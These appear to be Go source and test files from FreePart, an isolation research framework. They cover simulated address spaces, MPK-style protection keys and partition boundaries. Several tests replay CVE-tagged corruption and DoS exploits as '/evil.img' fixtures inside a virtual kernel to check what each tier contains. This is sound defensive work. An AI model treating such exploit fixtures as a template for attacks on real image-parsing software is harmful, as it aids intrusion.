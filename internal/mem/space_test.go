package mem

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
)

func TestAllocZeroed(t *testing.T) {
	s := NewSpace()
	r, err := s.Alloc(100)
	if err != nil {
		t.Fatal(err)
	}
	got, err := s.Load(r.Base, 100)
	if err != nil {
		t.Fatal(err)
	}
	for i, b := range got {
		if b != 0 {
			t.Fatalf("byte %d = %d, want 0", i, b)
		}
	}
}

func TestAllocInvalidSize(t *testing.T) {
	s := NewSpace()
	if _, err := s.Alloc(0); err == nil {
		t.Fatal("Alloc(0) should fail")
	}
	if _, err := s.Alloc(-1); err == nil {
		t.Fatal("Alloc(-1) should fail")
	}
}

func TestAllocPageAligned(t *testing.T) {
	s := NewSpace()
	a, _ := s.Alloc(10)
	b, _ := s.Alloc(10)
	if uint64(a.Base)%PageSize != 0 || uint64(b.Base)%PageSize != 0 {
		t.Fatalf("allocations not page aligned: %#x, %#x", a.Base, b.Base)
	}
	if a.Base.PageIndex() == b.Base.PageIndex() {
		t.Fatal("separate allocations share a page")
	}
}

func TestStoreLoadRoundTrip(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(10000) // spans multiple pages
	data := make([]byte, 10000)
	for i := range data {
		data[i] = byte(i * 7)
	}
	if err := s.Store(r.Base, data); err != nil {
		t.Fatal(err)
	}
	got, err := s.Load(r.Base, len(data))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("round trip mismatch")
	}
}

func TestStoreLoadRoundTripProperty(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(1 << 16)
	f := func(data []byte, off uint16) bool {
		if len(data) == 0 {
			return true
		}
		o := int(off) % (1<<16 - len(data))
		if o < 0 {
			o = 0
		}
		addr := r.Base + Addr(o)
		if err := s.Store(addr, data); err != nil {
			return false
		}
		got, err := s.Load(addr, len(data))
		return err == nil && bytes.Equal(got, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestUnmappedAccessFaults(t *testing.T) {
	s := NewSpace()
	_, err := s.Load(0x10, 1) // page zero is never mapped
	f, ok := IsFault(err)
	if !ok {
		t.Fatalf("want Fault, got %v", err)
	}
	if f.Mapped {
		t.Fatal("fault should report unmapped")
	}
	if f.Kind != AccessRead {
		t.Fatalf("fault kind = %v, want read", f.Kind)
	}
}

func TestReadOnlyProtection(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize * 2)
	if err := s.Store(r.Base, []byte("hello")); err != nil {
		t.Fatal(err)
	}
	if _, err := s.ProtectRegion(r, PermRead); err != nil {
		t.Fatal(err)
	}
	// Reads still work.
	got, err := s.Load(r.Base, 5)
	if err != nil || string(got) != "hello" {
		t.Fatalf("read after protect: %q, %v", got, err)
	}
	// Writes fault.
	err = s.Store(r.Base, []byte("x"))
	f, ok := IsFault(err)
	if !ok {
		t.Fatalf("want write fault, got %v", err)
	}
	if f.Kind != AccessWrite || !f.Mapped {
		t.Fatalf("fault = %+v, want mapped write fault", f)
	}
	// Restore and write again.
	if _, err := s.ProtectRegion(r, PermRW); err != nil {
		t.Fatal(err)
	}
	if err := s.Store(r.Base, []byte("x")); err != nil {
		t.Fatalf("write after unprotect: %v", err)
	}
}

func TestProtectPageCount(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize*3 - 1)
	n, err := s.ProtectRegion(r, PermRead)
	if err != nil {
		t.Fatal(err)
	}
	if n != 3 {
		t.Fatalf("protected %d pages, want 3", n)
	}
}

func TestProtectUnmappedFails(t *testing.T) {
	s := NewSpace()
	if _, err := s.Protect(Addr(1<<20), PageSize, PermRead); err == nil {
		t.Fatal("protect of unmapped page should fail")
	}
}

func TestNoReadPermFaults(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	if _, err := s.ProtectRegion(r, PermNone); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Load(r.Base, 1); err == nil {
		t.Fatal("read of PROT_NONE page should fault")
	}
	if err := s.Store(r.Base, []byte{1}); err == nil {
		t.Fatal("write of PROT_NONE page should fault")
	}
}

func TestExecPermission(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	if _, err := s.Exec(r.Base, 4); err == nil {
		t.Fatal("exec of rw- page should fault")
	}
	if _, err := s.ProtectRegion(r, PermRead|PermExec); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Exec(r.Base, 4); err != nil {
		t.Fatalf("exec of r-x page: %v", err)
	}
}

func TestFreeUnmaps(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	if err := s.Free(r); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Load(r.Base, 1); err == nil {
		t.Fatal("read of freed region should fault")
	}
	if got := len(s.Regions()); got != 0 {
		t.Fatalf("regions after free = %d, want 0", got)
	}
}

func TestRegionOf(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(100)
	got, ok := s.RegionOf(r.Base + 50)
	if !ok || got.Base != r.Base {
		t.Fatalf("RegionOf = %+v, %v", got, ok)
	}
	if _, ok := s.RegionOf(r.End() + PageSize); ok {
		t.Fatal("RegionOf outside any region should report false")
	}
}

func TestRegionOverlaps(t *testing.T) {
	a := Region{Base: 0x1000, Size: 0x1000}
	b := Region{Base: 0x1800, Size: 0x1000}
	c := Region{Base: 0x3000, Size: 0x1000}
	if !a.Overlaps(b) || !b.Overlaps(a) {
		t.Fatal("a and b should overlap")
	}
	if a.Overlaps(c) {
		t.Fatal("a and c should not overlap")
	}
}

func TestOutOfMemory(t *testing.T) {
	s := NewSpace()
	s.SetLimit(PageSize * 4)
	if _, err := s.Alloc(PageSize * 2); err != nil {
		t.Fatal(err)
	}
	_, err := s.Alloc(PageSize * 16)
	if !errors.Is(err, ErrOutOfMemory) {
		t.Fatalf("want ErrOutOfMemory, got %v", err)
	}
}

func TestCrossSpaceCopy(t *testing.T) {
	a, b := NewSpace(), NewSpace()
	ra, _ := a.Alloc(64)
	rb, _ := b.Alloc(64)
	want := []byte("isolation boundary crossing")
	if err := a.Store(ra.Base, want); err != nil {
		t.Fatal(err)
	}
	if err := Copy(b, rb.Base, a, ra.Base, len(want)); err != nil {
		t.Fatal(err)
	}
	got, _ := b.Load(rb.Base, len(want))
	if !bytes.Equal(got, want) {
		t.Fatalf("copy mismatch: %q", got)
	}
}

func TestCrossSpaceCopyHonorsPerms(t *testing.T) {
	a, b := NewSpace(), NewSpace()
	ra, _ := a.Alloc(64)
	rb, _ := b.Alloc(64)
	if _, err := b.ProtectRegion(rb, PermRead); err != nil {
		t.Fatal(err)
	}
	err := Copy(b, rb.Base, a, ra.Base, 8)
	if _, ok := IsFault(err); !ok {
		t.Fatalf("copy into read-only region should fault, got %v", err)
	}
}

func TestSpacesAreIsolated(t *testing.T) {
	// Writing in one space never changes another space's bytes, even at the
	// same virtual address — the property FreePart's process isolation
	// depends on.
	a, b := NewSpace(), NewSpace()
	ra, _ := a.Alloc(64)
	rb, _ := b.Alloc(64)
	if ra.Base != rb.Base {
		t.Fatalf("expected identical layout, got %#x vs %#x", ra.Base, rb.Base)
	}
	if err := a.Store(ra.Base, []byte{0xAA}); err != nil {
		t.Fatal(err)
	}
	got, _ := b.LoadByte(rb.Base)
	if got != 0 {
		t.Fatalf("space b observed space a's write: %#x", got)
	}
}

func TestStats(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	_ = s.Store(r.Base, []byte{1, 2, 3})
	_, _ = s.Load(r.Base, 2)
	_, _ = s.ProtectRegion(r, PermRead)
	_ = s.Store(r.Base, []byte{9}) // faults
	st := s.Stats()
	if st.Stores != 1 || st.Loads != 1 || st.Protects != 1 || st.Faults != 1 {
		t.Fatalf("stats = %+v", st)
	}
	if st.BytesStored != 3 || st.BytesLoaded != 2 {
		t.Fatalf("byte stats = %+v", st)
	}
	if st.PagesMapped != 1 {
		t.Fatalf("pages mapped = %d, want 1", st.PagesMapped)
	}
}

func TestDistinctSpaceIDs(t *testing.T) {
	if NewSpace().ID() == NewSpace().ID() {
		t.Fatal("space ids must be unique")
	}
}

func TestPermString(t *testing.T) {
	cases := map[Perm]string{
		PermNone:            "---",
		PermRead:            "r--",
		PermRW:              "rw-",
		PermRead | PermExec: "r-x",
		PermWrite:           "-w-",
		PermRW | PermExec:   "rwx",
	}
	for p, want := range cases {
		if got := p.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", p, got, want)
		}
	}
}

func TestFaultErrorStrings(t *testing.T) {
	f := &Fault{Space: 3, Addr: 0x2000, Kind: AccessWrite, Perm: PermRead, Mapped: true}
	if f.Error() == "" {
		t.Fatal("empty error string")
	}
	u := &Fault{Space: 3, Addr: 0x2000, Kind: AccessRead}
	if u.Error() == "" {
		t.Fatal("empty unmapped error string")
	}
}

func TestAllocReusesFreedSpans(t *testing.T) {
	s := NewSpace()
	s.SetLimit(PageSize * 8)
	// Alloc/free far more than the limit would allow without reuse.
	for i := 0; i < 64; i++ {
		r, err := s.Alloc(PageSize)
		if err != nil {
			t.Fatalf("iteration %d: %v", i, err)
		}
		if err := s.Store(r.Base, []byte{0xAB}); err != nil {
			t.Fatal(err)
		}
		if err := s.Free(r); err != nil {
			t.Fatal(err)
		}
	}
	// Reused pages come back zeroed.
	r, _ := s.Alloc(PageSize)
	b, _ := s.LoadByte(r.Base)
	if b != 0 {
		t.Fatalf("reused page not zeroed: %#x", b)
	}
}

func TestFreedSpanSplit(t *testing.T) {
	s := NewSpace()
	big, _ := s.Alloc(PageSize * 4)
	_ = s.Free(big)
	a, _ := s.Alloc(PageSize)     // carves from the freed span
	b, _ := s.Alloc(PageSize * 3) // takes the remainder
	if a.Base != big.Base || b.Base != big.Base+PageSize {
		t.Fatalf("split placement: a=%#x b=%#x big=%#x", a.Base, b.Base, big.Base)
	}
}
