package mem

import "fmt"

// Protection keys implement the intra-process isolation the paper's §7
// points to as complementary (Hodor, ERIM, Donky: PKU-based memory
// domains). Pages carry a 4-bit key; the space carries a PKRU-style access
// mask deciding, per key, whether loads and stores are permitted *in
// addition to* the page permission bits. Key 0 is the default domain and
// is always fully accessible, as on x86 MPK.
//
// FreePart's agents can use keys to shield long-lived data (e.g. model
// weights) from the rest of the code in the same agent process: a payload
// running inside a compromised agent still faults when it touches a
// disabled domain.
type Key uint8

// MaxKey is the largest usable protection key (x86 MPK has 16 keys).
const MaxKey Key = 15

// keyAccess is one key's PKRU entry.
type keyAccess struct {
	denyRead  bool
	denyWrite bool
}

// SetKey tags every page of the region with the protection key.
func (s *AddressSpace) SetKey(r Region, k Key) error {
	if k > MaxKey {
		return fmt.Errorf("%w: protection key %d", ErrBadRange, k)
	}
	if r.Size <= 0 {
		return fmt.Errorf("%w: key region size %d", ErrBadRange, r.Size)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	first := r.Base.PageIndex()
	last := (r.Base + Addr(r.Size) - 1).PageIndex()
	for pi := first; pi <= last; pi++ {
		pg, ok := s.pages[pi]
		if !ok {
			return fmt.Errorf("%w: key on unmapped page %#x", ErrBadRange, pi*PageSize)
		}
		pg.key = k
	}
	return nil
}

// KeyAt returns the protection key of the page containing addr.
func (s *AddressSpace) KeyAt(addr Addr) (Key, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	pg, ok := s.pages[addr.PageIndex()]
	if !ok {
		return 0, false
	}
	return pg.key, true
}

// SetKeyAccess writes the space's PKRU entry for the key: whether loads
// and stores of pages tagged with it are permitted. Key 0 cannot be
// restricted (the default domain must stay usable, as in hardware MPK
// where WRPKRU itself must remain reachable).
func (s *AddressSpace) SetKeyAccess(k Key, allowRead, allowWrite bool) error {
	if k == 0 {
		return fmt.Errorf("%w: key 0 access is fixed", ErrBadRange)
	}
	if k > MaxKey {
		return fmt.Errorf("%w: protection key %d", ErrBadRange, k)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pkru[k] = keyAccess{denyRead: !allowRead, denyWrite: !allowWrite}
	return nil
}

// KeyAccess reports the PKRU entry for the key.
func (s *AddressSpace) KeyAccess(k Key) (allowRead, allowWrite bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	a := s.pkru[k]
	return !a.denyRead, !a.denyWrite
}

// keyAllows checks the PKRU mask for an access, under s.mu.
func (s *AddressSpace) keyAllows(k Key, kind AccessKind) bool {
	if k == 0 {
		return true
	}
	a := s.pkru[k]
	switch kind {
	case AccessRead, AccessExec:
		return !a.denyRead
	case AccessWrite:
		return !a.denyWrite
	default:
		return true
	}
}
