package core_test

import (
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/vclock"
)

// isolationPipeline runs a fixed pipeline crossing all four API types and
// returns the final virtual time, the metrics snapshot, and the stored
// output bytes — the full observable surface of one run.
func isolationPipeline(t *testing.T, cfg core.Config) (vclock.Duration, metrics.Snapshot, []byte) {
	t.Helper()
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 8, 8)
	img, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	eq, _, err := rt.Call("cv.equalizeHist", img[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	boxed, _, err := rt.Call("cv.rectangle", eq[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imshow", framework.Str("w"), boxed[0].Value()); err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imwrite", framework.Str("/out.img"), boxed[0].Value()); err != nil {
		t.Fatal(err)
	}
	out, err := k.FS.ReadFile("/out.img")
	if err != nil {
		t.Fatal(err)
	}
	return k.Clock.Now(), rt.Metrics.Snapshot(), out
}

// TestIsolationZeroCostPaperPolicy is the refactor's zero-cost guard: a
// runtime built with the explicit "paper" policy must replay byte-identical
// to one built with no policy at all — same virtual clock, same metrics,
// same outputs. The Boundary seam may not cost the default path anything.
func TestIsolationZeroCostPaperPolicy(t *testing.T) {
	now1, snap1, out1 := isolationPipeline(t, core.Default())
	now2, snap2, out2 := isolationPipeline(t, core.ConfigForIsolation(isolation.Paper()))
	if now1 != now2 {
		t.Fatalf("virtual clocks diverged: nil policy %v, paper policy %v", now1, now2)
	}
	if !reflect.DeepEqual(snap1, snap2) {
		t.Fatalf("metrics diverged:\nnil:   %+v\npaper: %+v", snap1, snap2)
	}
	if string(out1) != string(out2) {
		t.Fatal("stored output bytes diverged")
	}
	if snap2.DomainSwitches != 0 || snap2.DomainCopies != 0 {
		t.Fatalf("paper policy charged domain costs: %+v", snap2)
	}
}

// TestTieredPolicyMixesBoundaries pins the per-type dispatch: under the
// tiered preset, a loading call crosses a process boundary (IPC, no domain
// switch) while a visualizing call crosses an MPK domain (exactly one
// entry/exit switch pair, no IPC marshalling).
func TestTieredPolicyMixesBoundaries(t *testing.T) {
	k, rt := setup(t, core.ConfigForIsolation(isolation.Tiered()))
	writeImage(k, "/in.img", 8, 8)
	img, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if s := rt.Metrics.Snapshot(); s.DomainSwitches != 0 {
		t.Fatalf("loading call crossed a domain: %d switches", s.DomainSwitches)
	}
	if _, _, err := rt.Call("cv.imshow", framework.Str("w"), img[0].Value()); err != nil {
		t.Fatal(err)
	}
	if s := rt.Metrics.Snapshot(); s.DomainSwitches != 2 {
		t.Fatalf("visualizing call: %d domain switches, want 2 (entry+exit)", s.DomainSwitches)
	}
}

// TestDomainTierBlocksCrossDomainWrite replays a memory-corruption exploit
// under the all-domain (erim) policy twice: the critical host bytes must
// survive (the PKRU revokes the host-critical key inside the domain), the
// wild write must crash the domain — and with it the host, shared-fate
// semantics — and both runs must record identical fault fields. (The raw
// error strings embed the process-global address-space ID, so the
// comparison is on the structured fault, not the string.)
func TestDomainTierBlocksCrossDomainWrite(t *testing.T) {
	run := func() (string, bool, mem.Fault) {
		k, rt := setup(t, core.ConfigForIsolation(isolation.ERIM()))
		log := &attack.Log{}
		rt.OnExploit = log.Handler()
		crit, err := rt.Host.Space().Alloc(32)
		if err != nil {
			t.Fatal(err)
		}
		if err := rt.Host.Space().Store(crit.Base, []byte("sensitive")); err != nil {
			t.Fatal(err)
		}
		rt.RegisterCritical(crit)
		k.FS.WriteFile("/evil.img", attack.Corrupt("CVE-2017-12606", crit.Base, []byte("OWNED")))
		_, _, callErr := rt.Call("cv.imread", framework.Str("/evil.img"))
		if callErr == nil {
			t.Fatal("exploited call should fail")
		}
		data, err := rt.Host.Space().Load(crit.Base, 9)
		if err != nil {
			t.Fatalf("critical data must stay readable at steady-state PKRU: %v", err)
		}
		last := log.Last()
		if last == nil || !last.Fired {
			t.Fatal("exploit never fired")
		}
		f, ok := mem.IsFault(last.Err)
		if !ok {
			t.Fatalf("exploit outcome should be a memory fault, got %v", last.Err)
		}
		norm := *f
		norm.Space = 0 // process-global ID, differs between fresh kernels
		return string(data), rt.Host.Alive(), norm
	}
	data1, alive1, fault1 := run()
	if data1 != "sensitive" {
		t.Fatalf("critical data = %q, want untouched", data1)
	}
	if alive1 {
		t.Fatal("domain crash must take the host down (shared address space)")
	}
	if fault1.Kind != mem.AccessWrite {
		t.Fatalf("blocked write should fault as AccessWrite, got %+v", fault1)
	}
	data2, alive2, fault2 := run()
	if data1 != data2 || alive1 != alive2 || fault1 != fault2 {
		t.Fatalf("domain fault path not deterministic:\n%q %v %+v\nvs\n%q %v %+v",
			data1, alive1, fault1, data2, alive2, fault2)
	}
}

// TestDomainTierNoRestart pins the honest MPK semantics: a dead domain
// partition is not restartable (it shares the host's fate), so RestartDead
// must skip it rather than rebuild the shared address space.
func TestDomainTierNoRestart(t *testing.T) {
	k, rt := setup(t, core.ConfigForIsolation(isolation.ERIM()))
	log := &attack.Log{}
	rt.OnExploit = log.Handler()
	k.FS.WriteFile("/evil.img", attack.DoS("CVE-2017-14136"))
	if _, _, err := rt.Call("cv.imread", framework.Str("/evil.img")); err == nil {
		t.Fatal("DoS exploit should fail the call")
	}
	if rt.Host.Alive() {
		t.Fatal("DoS in a domain must kill the host")
	}
	if err := rt.RestartDead(); err != nil {
		t.Fatalf("RestartDead must skip domain partitions, got %v", err)
	}
	if rt.Host.Alive() {
		t.Fatal("RestartDead must not resurrect the shared process")
	}
	// A later call on the dead domain reports a crash-class error.
	if _, _, err := rt.Call("cv.imread", framework.Str("/evil.img")); err == nil {
		t.Fatal("calls into a dead domain must fail")
	}
}

// TestHostTierNoContainment pins the frontier's bottom end: under the
// "none" policy everything runs in the host process, so the same corruption
// exploit lands — and no agent endpoints, domain switches, or syscall
// filters stand in the way.
func TestHostTierNoContainment(t *testing.T) {
	k, rt := setup(t, core.ConfigForIsolation(isolation.None()))
	log := &attack.Log{}
	rt.OnExploit = log.Handler()
	crit, err := rt.Host.Space().Alloc(32)
	if err != nil {
		t.Fatal(err)
	}
	if err := rt.Host.Space().Store(crit.Base, []byte("sensitive")); err != nil {
		t.Fatal(err)
	}
	rt.RegisterCritical(crit)
	k.FS.WriteFile("/evil.img", attack.Corrupt("CVE-2017-12606", crit.Base, []byte("OWNED")))
	if _, _, err := rt.Call("cv.imread", framework.Str("/evil.img")); err == nil {
		t.Fatal("exploited call should fail")
	}
	data, _ := rt.Host.Space().Load(crit.Base, 5)
	if string(data) != "OWNED" {
		t.Fatalf("critical data = %q; the host tier must not block the write", data)
	}
	if n := rt.EndpointCount(); n != 1 {
		t.Fatalf("endpoints = %d, want 1 (host only; no partitions spawned)", n)
	}
	if s := rt.Metrics.Snapshot(); s.DomainSwitches != 0 {
		t.Fatalf("host tier charged %d domain switches", s.DomainSwitches)
	}
}

// TestConfigForIsolation pins the config derivation: the none policy strips
// every mechanism (no syscall filters, LDC semantics kept); policies with a
// process tier keep syscall restriction; domain-only policies drop it.
func TestConfigForIsolation(t *testing.T) {
	none := core.ConfigForIsolation(isolation.None())
	if none.RestrictSyscalls || !none.LazyDataCopy {
		t.Fatalf("none config = %+v", none)
	}
	paper := core.ConfigForIsolation(isolation.Paper())
	want := core.Default()
	want.Isolation = paper.Isolation
	if !reflect.DeepEqual(paper, want) {
		t.Fatalf("paper config deviates from Default:\n%+v\nvs\n%+v", paper, want)
	}
	if erim := core.ConfigForIsolation(isolation.ERIM()); erim.RestrictSyscalls {
		t.Fatal("domain-only policy must not claim per-process seccomp")
	}
}

// TestBlockedByMatrix pins the per-tier blocked semantics the frontier
// report is built on.
func TestBlockedByMatrix(t *testing.T) {
	cases := []struct {
		class attack.VulnClass
		tier  isolation.Tier
		want  bool
	}{
		{attack.ClassMemWrite, isolation.TierProcess, true},
		{attack.ClassMemWrite, isolation.TierDomain, true},
		{attack.ClassMemWrite, isolation.TierHost, false},
		{attack.ClassMemRead, isolation.TierDomain, true},
		{attack.ClassDoS, isolation.TierProcess, true},
		{attack.ClassDoS, isolation.TierDomain, false},
		{attack.ClassRCE, isolation.TierDomain, false},
		{attack.ClassRCE, isolation.TierProcess, true},
		{attack.ClassFileRead, isolation.TierDomain, false},
	}
	for _, c := range cases {
		if got := c.class.BlockedBy(c.tier); got != c.want {
			t.Errorf("%v blocked by %v = %v, want %v", c.class, c.tier, got, c.want)
		}
	}
}

// TestDomainPartitionsHaveOwnEndpoints pins the topology of each preset:
// domain partitions get their own endpoint (distinct PID, distinct key) even
// though they share the host address space, while host-tier partitions alias
// the existing host endpoint.
func TestDomainPartitionsHaveOwnEndpoints(t *testing.T) {
	_, erim := setup(t, core.ConfigForIsolation(isolation.ERIM()))
	if n := erim.EndpointCount(); n != 5 {
		t.Fatalf("erim endpoints = %d, want host + 4 domain partitions", n)
	}
	_, tiered := setup(t, core.ConfigForIsolation(isolation.Tiered()))
	if n := tiered.EndpointCount(); n != 5 {
		t.Fatalf("tiered endpoints = %d, want host + 4 partitions", n)
	}
}
