package core

import (
	"fmt"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/object"
)

// Boundary is one isolation mechanism behind the agent-dispatch seam: it
// owns how a partition is brought up (Spawn) and how one API invocation
// crosses into it (Invoke). Three implementations span the frontier:
//
//   - processBoundary — the paper's mechanism: a kernel process with its
//     own address space and seccomp filter, reached over per-call IPC.
//   - domainBoundary — ERIM-style MPK domain: same address space as the
//     host, partition state behind a protection key, a WRPKRU-class switch
//     charged on entry and exit, and no per-byte IPC copy for read-only
//     arguments.
//   - hostBoundary — plain in-host execution (the degraded path, selected
//     deliberately): zero switch cost, blocks nothing.
//
// Invoke returns exactly what the legacy RPC path returned from Call's
// middle section: result handles, plain values, and an error that is
// errAgentDegraded when the circuit breaker demoted the partition
// mid-call (Call reroutes to the degraded path) or wraps
// ipc.ErrAgentCrashed for crash-class failures (the executor drains the
// shard).
type Boundary interface {
	Tier() isolation.Tier
	Spawn(rt *Runtime, a *agent) error
	Invoke(rt *Runtime, a *agent, api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error)
}

// boundaryFor picks the boundary for a partition: without a policy,
// always the process tier (bit-identical to the pre-policy path);
// otherwise the strongest tier among the types the partition homes (a
// partition is as protected as its most sensitive type requires).
func (rt *Runtime) boundaryFor(types map[framework.APIType]bool) Boundary {
	pol := rt.Config.Isolation
	if pol == nil {
		return processBoundary{}
	}
	tier := isolation.TierProcess
	found := false
	for t := range types {
		tt := pol.TierOf(t)
		if !found || tt > tier {
			tier = tt
			found = true
		}
	}
	switch tier {
	case isolation.TierHost:
		return hostBoundary{}
	case isolation.TierDomain:
		return domainBoundary{}
	default:
		return processBoundary{}
	}
}

// --- process tier ------------------------------------------------------------

// processBoundary is the paper's hardwired path, extracted verbatim: a
// spawned kernel process, an ipc.Conn served by the agent loop, per-call
// marshalling with LDC, and the restart supervisor. When selected (the
// default, and the "paper" preset) every operation happens in the same
// order as before the Boundary seam existed, so replays stay byte-equal.
type processBoundary struct{}

func (processBoundary) Tier() isolation.Tier { return isolation.TierProcess }

func (processBoundary) Spawn(rt *Runtime, a *agent) error {
	proc := rt.K.Spawn(a.name)
	ctx := framework.NewCtx(rt.K, proc)
	ctx.OnExploit = rt.exploit
	ctx.Tracer = rt.Tracer
	a.proc = proc
	a.ctx = ctx
	a.conn = ipc.NewConn(64, rt.K.Clock, rt.K.Cost)
	if rt.Config.CallDeadline > 0 {
		a.conn.SetDeadline(rt.Config.CallDeadline)
	}
	a.conn.SetPeerCheck(func() bool { return a.process().Alive() })
	if rt.policies != nil {
		// A partition homing several types gets the union policy.
		merged := &analysis.AgentPolicy{FDLabels: make(map[kernel.Sysno][]string)}
		for t := range a.types {
			if p, ok := rt.policies[t]; ok {
				merged.Allowed = append(merged.Allowed, p.Allowed...)
				merged.InitOnly = append(merged.InitOnly, p.InitOnly...)
				for call, labels := range p.FDLabels {
					merged.FDLabels[call] = append(merged.FDLabels[call], labels...)
				}
			}
		}
		a.policy = merged
	}
	go a.conn.Serve(rt.serve(a))

	rt.mu.Lock()
	rt.agents[a.id] = a
	rt.endpoints[uint32(proc.PID())] = &endpoint{
		space: func() *mem.AddressSpace { return a.process().Space() },
		table: func() *object.Table { return a.context().Table },
		agent: a,
	}
	rt.mu.Unlock()

	if err := rt.initAgent(a); err != nil {
		return err
	}
	if a.policy != nil {
		if err := a.policy.Apply(proc.Filter(), rt.Config.FilterAction); err != nil {
			return err
		}
	}
	rt.armChaos(a)
	return nil
}

func (processBoundary) Invoke(rt *Runtime, a *agent, api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error) {
	call, err := rt.marshalArgs(args)
	if err != nil {
		return nil, nil, err
	}
	call.API = api.Name

	reply, err := rt.callAgent(a, call)
	if err != nil {
		return nil, nil, err
	}

	handles := make([]Handle, 0, len(reply.Results))
	plain := make([]framework.Value, 0, len(reply.Results))
	for i, v := range reply.Results {
		if v.Kind != framework.ValRef {
			plain = append(plain, v)
			continue
		}
		h := Handle{ref: v.Ref, size: v.Ref.Size, kind: v.Ref.Kind}
		if !rt.Config.LazyDataCopy {
			// Materialize through the host process (Fig. 11-(b)).
			payload := reply.Payloads[i]
			o, err := object.Rebuild(rt.Host.Space(), v.Ref, payload)
			if err != nil {
				return nil, nil, err
			}
			rt.Metrics.AddEagerCopy(len(payload))
			rt.K.Clock.Advance(rt.K.Cost.CopyCost(len(payload)))
			h = Handle{local: rt.hostCtx.Table.Put(o), materialized: true, size: len(payload), kind: v.Ref.Kind}
		}
		handles = append(handles, h)
	}
	return handles, plain, nil
}

// --- domain tier -------------------------------------------------------------

// hostCriticalKey is the protection key reserved for host objects under
// temporal/critical protection when any partition runs as an MPK domain:
// RegisterCritical tags such objects with it, and domainEnter revokes it,
// so payload code running inside a compromised domain faults on host
// secrets exactly as a cross-domain access does. Domain partitions
// allocate keys 1..MaxKey-1; key 0 stays the default (always-allowed)
// domain.
const hostCriticalKey = mem.MaxKey

// allocDomainKey hands out the next protection key in spawn order.
// Partitions spawn in sorted id order, so key assignment — and every fault
// address derived from it — is deterministic across runs.
func (rt *Runtime) allocDomainKey() (mem.Key, error) {
	next := rt.nextDomainKey
	if next == 0 {
		next = 1
	}
	if next >= hostCriticalKey {
		return 0, fmt.Errorf("core: out of protection keys (%d domain partitions max)", hostCriticalKey-1)
	}
	rt.nextDomainKey = next + 1
	rt.domainKeys = append(rt.domainKeys, next)
	return next, nil
}

// domainBoundary runs a partition as an ERIM-style protection-key domain:
// it shares the host's address space (no IPC, no serialization), tags the
// partition's objects with a dedicated mem.Key, and charges one
// WRPKRU-class switch on entry and exit. There is no per-domain seccomp
// and no restart: a domain that dies takes the host process with it
// (shared fate is the honest MPK semantics, and exactly why DoS/RCE
// classes stay unblocked at this tier).
type domainBoundary struct{}

func (domainBoundary) Tier() isolation.Tier { return isolation.TierDomain }

func (domainBoundary) Spawn(rt *Runtime, a *agent) error {
	proc := rt.K.SpawnDomain(a.name, rt.Host)
	key, err := rt.allocDomainKey()
	if err != nil {
		return err
	}
	ctx := framework.NewCtx(rt.K, proc)
	ctx.OnExploit = rt.exploit
	ctx.Tracer = rt.Tracer
	a.proc = proc
	a.ctx = ctx
	a.key = key

	rt.mu.Lock()
	rt.agents[a.id] = a
	rt.endpoints[uint32(proc.PID())] = &endpoint{
		space: func() *mem.AddressSpace { return a.process().Space() },
		table: func() *object.Table { return a.context().Table },
		agent: a,
	}
	rt.mu.Unlock()

	return rt.initAgent(a)
}

func (domainBoundary) Invoke(rt *Runtime, a *agent, api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error) {
	if !a.process().Alive() {
		return nil, nil, fmt.Errorf("%w: domain %s is dead", ipc.ErrAgentCrashed, a.name)
	}
	ctx := a.context()
	// Arguments resolve at host trust, before the PKRU narrows: grants and
	// copies land in the domain's table tagged with its key.
	local, err := rt.domainArgs(a, ctx, args)
	if err != nil {
		return nil, nil, rt.domainCrash(a, err)
	}
	rt.domainEnter(a)
	results, err := api.Exec(ctx, local)
	if err == nil && ((rt.Config.CheckpointStateful && api.Stateful) || rt.Config.CheckpointAll) {
		rt.checkpointObjects(a, ctx, api, local, results)
	}
	rt.domainExit(a)
	if err != nil {
		return nil, nil, rt.domainCrash(a, err)
	}
	return rt.domainResults(a, ctx, results)
}

// domainEnter narrows the PKRU to the entering domain: every other
// partition's key — and the host-critical key — is revoked for both reads
// and writes, so any access the executing domain makes outside its own
// state faults deterministically (mem.keyAllows). One WRPKRU-class switch
